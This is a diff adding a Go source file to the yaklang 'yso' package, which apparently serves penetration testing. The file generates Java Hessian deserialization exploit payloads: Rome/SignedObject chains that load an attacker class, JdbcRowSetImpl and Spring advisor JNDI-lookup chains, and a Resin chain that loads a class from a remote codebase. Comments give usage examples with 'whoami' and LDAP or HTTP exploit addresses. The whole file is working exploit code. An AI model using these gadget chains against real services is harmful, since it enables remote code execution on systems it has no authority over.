@@ -0,0 +1,128 @@
+package yso
+
+import (
+	"github.com/yaklang/yaklang/common/yserx/hessian"
+)
+
+const romePackage = "com.sun.syndication.feed.impl"
+
+// romeToStringTrigger wrap the bean by rome EqualsBean in HashMap, the getters of bean are called when HashMap computes hash code
+func romeToStringTrigger(beanClass string, bean hessian.HessianSerializable) hessian.HessianSerializable {
+	toStringBean := hessian.NewHessianObject(romePackage+".ToStringBean",
+		hessian.NewHessianField("_beanClass", hessian.NewHessianClass(beanClass)),
+		hessian.NewHessianField("_obj", bean),
+	)
+	equalsBean := hessian.NewHessianObject(romePackage+".EqualsBean",
+		hessian.NewHessianField("_beanClass", hessian.NewHessianClass(romePackage+".ToStringBean")),
+		hessian.NewHessianField("_obj", toStringBean),
+	)
+	return hessian.NewHessianMap("", hessian.NewHessianMapEntry(equalsBean, hessian.NewHessianString("yak")))
+}
+
+// hotSwappableTrigger put two spring HotSwappableTargetSource in HashMap, the second target equals the first when the hash codes collide
+func hotSwappableTrigger(first, second hessian.HessianSerializable) hessian.HessianSerializable {
+	newSource := func(target hessian.HessianSerializable) hessian.HessianSerializable {
+		return hessian.NewHessianObject("org.springframework.aop.target.HotSwappableTargetSource",
+			hessian.NewHessianField("target", target),
+		)
+	}
+	return hessian.NewHessianMap("",
+		hessian.NewHessianMapEntry(newSource(first), hessian.NewHessianNull()),
+		hessian.NewHessianMapEntry(newSource(second), hessian.NewHessianNull()),
+	)
+}
+
+// GetHessianRomeSignedObjectPayload generate hessian payload by rome and SignedObject, the content of SignedObject is the native CommonsBeanutils192NOCC chain,
+// so the evil class is loaded by TemplatesImpl even if the hessian deserializer denies TemplatesImpl.
+// Example:
+// ```
+// payload, err = yso.GetHessianRomeSignedObjectPayload(yso.useRuntimeExecEvilClass("whoami"))
+// raw, err = yso.ToBytes(payload)
+// ```
+func GetHessianRomeSignedObjectPayload(options ...GenClassOptionFun) (*FormatPayload, error) {
+	obj, err := GetCommonsBeanutils192NOCCJavaObject(options...)
+	if err != nil {
+		return nil, err
+	}
+	content, err := ToBytes(obj)
+	if err != nil {
+		return nil, err
+	}
+	signedObject := hessian.NewHessianObject("java.security.SignedObject",
+		hessian.NewHessianField("content", hessian.NewHessianBinary(content)),
+		hessian.NewHessianField("signature", hessian.NewHessianBinary([]byte{0})),
+		hessian.NewHessianField("thealgorithm", hessian.NewHessianString("DSA")),
+	)
+	return newHessianPayload(HessianRomeSignedObjectGadgetName, romeToStringTrigger("java.security.SignedObject", signedObject)), nil
+}
+
+// GetHessianRomeJNDIPayload generate hessian payload by rome and JdbcRowSetImpl, which triggers jndi lookup of the address
+// Example:
+// ```
+// payload = yso.GetHessianRomeJNDIPayload("ldap://127.0.0.1:1389/Exploit")
+// raw, err = yso.ToBytes(payload)
+// ```
+func GetHessianRomeJNDIPayload(jndi string) *FormatPayload {
+	rowSet := hessian.NewHessianObject("com.sun.rowset.JdbcRowSetImpl",
+		hessian.NewHessianField("dataSource", hessian.NewHessianString(jndi)),
+		hessian.NewHessianField("strMatchColumns", hessian.NewHessianList("java.util.Vector", hessian.NewHessianString("foo"))),
+	)
+	return newHessianPayload("HessianRomeJNDI", romeToStringTrigger("com.sun.rowset.JdbcRowSetImpl", rowSet))
+}
+
+// GetHessianSpringPointcutAdvisorPayload generate hessian payload by spring DefaultBeanFactoryPointcutAdvisor and SimpleJndiBeanFactory,
+// which triggers jndi lookup of the address
+// Example:
+// ```
+// payload = yso.GetHessianSpringPointcutAdvisorPayload("ldap://127.0.0.1:1389/Exploit")
+// raw, err = yso.ToBytes(payload)
+// ```
+func GetHessianSpringPointcutAdvisorPayload(jndi string) *FormatPayload {
+	newAdvisor := func() hessian.HessianSerializable {
+		beanFactory := hessian.NewHessianObject("org.springframework.jndi.support.SimpleJndiBeanFactory",
+			hessian.NewHessianField("resourceRef", hessian.NewHessianBool(true)),
+			hessian.NewHessianField("shareableResources", hessian.NewHessianList("java.util.HashSet", hessian.NewHessianString(jndi))),
+			hessian.NewHessianField("singletonObjects", hessian.NewHessianMap("")),
+			hessian.NewHessianField("resourceTypes", hessian.NewHessianMap("")),
+		)
+		return hessian.NewHessianObject("org.springframework.aop.support.DefaultBeanFactoryPointcutAdvisor",
+			hessian.NewHessianField("adviceBeanName", hessian.NewHessianString(jndi)),
+			hessian.NewHessianField("beanFactory", beanFactory),
+		)
+	}
+	// the hash code of advisors are the same, so the equals of advisor gets the advice from bean factory
+	return newHessianPayload("HessianSpringPointcutAdvisor", hessian.NewHessianMap("",
+		hessian.NewHessianMapEntry(newAdvisor(), hessian.NewHessianString("a")),
+		hessian.NewHessianMapEntry(newAdvisor(), hessian.NewHessianString("b")),
+	))
+}
+
+// GetHessianResinPayload generate hessian payload by resin QName and ContinuationDirContext, which loads the remote class from codebase
+// Example:
+// ```
+// payload = yso.GetHessianResinPayload("http://127.0.0.1:8080/", "Exploit")
+// raw, err = yso.ToBytes(payload)
+// ```
+func GetHessianResinPayload(codebase string, className string) *FormatPayload {
+	reference := hessian.NewHessianObject("javax.naming.Reference",
+		hessian.NewHessianField("className", hessian.NewHessianString(className)),
+		hessian.NewHessianField("addrs", hessian.NewHessianList("java.util.Vector")),
+		hessian.NewHessianField("classFactory", hessian.NewHessianString(className)),
+		hessian.NewHessianField("classFactoryLocation", hessian.NewHessianString(codebase)),
+	)
+	cpe := hessian.NewHessianObject("javax.naming.CannotProceedException",
+		hessian.NewHessianField("resolvedObj", reference),
+	)
+	ctx := hessian.NewHessianObject("javax.naming.spi.ContinuationDirContext",
+		hessian.NewHessianField("cpe", cpe),
+		hessian.NewHessianField("env", hessian.NewHessianMap("java.util.Hashtable")),
+	)
+	qName := hessian.NewHessianObject("com.caucho.naming.QName",
+		hessian.NewHessianField("_context", ctx),
+		hessian.NewHessianField("_items", hessian.NewHessianList("java.util.ArrayList", hessian.NewHessianString("foo"), hessian.NewHessianString("bar"))),
+	)
+	xString := hessian.NewHessianObject("com.sun.org.apache.xpath.internal.objects.XString",
+		hessian.NewHessianField("m_obj", hessian.NewHessianString("")),
+	)
+	return newHessianPayload("HessianResin", hotSwappableTrigger(qName, xString))
+}